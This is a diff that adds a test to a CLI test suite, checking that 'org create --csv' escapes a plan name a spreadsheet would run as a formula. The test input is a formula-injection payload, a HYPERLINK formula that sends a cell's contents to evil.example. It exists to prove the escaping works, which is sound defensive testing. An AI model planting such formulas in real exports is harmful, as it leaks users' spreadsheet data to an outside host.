@@ -137,6 +137,28 @@ describe('The operator CLI: contracts (org …, account create --org)', () => {
     expect(user.username).toBe(rows[1][1]);
   });
 
+  it('org create --csv neutralises a plan a spreadsheet would run as a formula', async () => {
+    const plan = '=HYPERLINK("https://evil.example/?"&A1,"Gold")';
+
+    const run = await cli(
+      'org',
+      'create',
+      '--name',
+      uniqueUsername('Formula'),
+      '--plan',
+      plan,
+      '--users',
+      '1',
+      '--csv',
+    );
+
+    expect(run).toMatchObject({ code: 0, stderr: '' });
+    const row = run.stdout.split('\r\n')[1];
+    expect(row.startsWith(`"'=HYPERLINK(""https://evil.example/?""&A1,""Gold"")"`)).toBe(true);
+    // The temporary password cell never needs it: it never begins with a symbol.
+    expect(row.split(',').at(-3)).toMatch(/^[A-Za-z0-9]/);
+  });
+
   it('takes general-user names from a file, and add-accounts adds more to the same contract', async () => {
     const name = uniqueUsername('Files');
     const dir = await mkdtemp(join(tmpdir(), 'tobira-'));
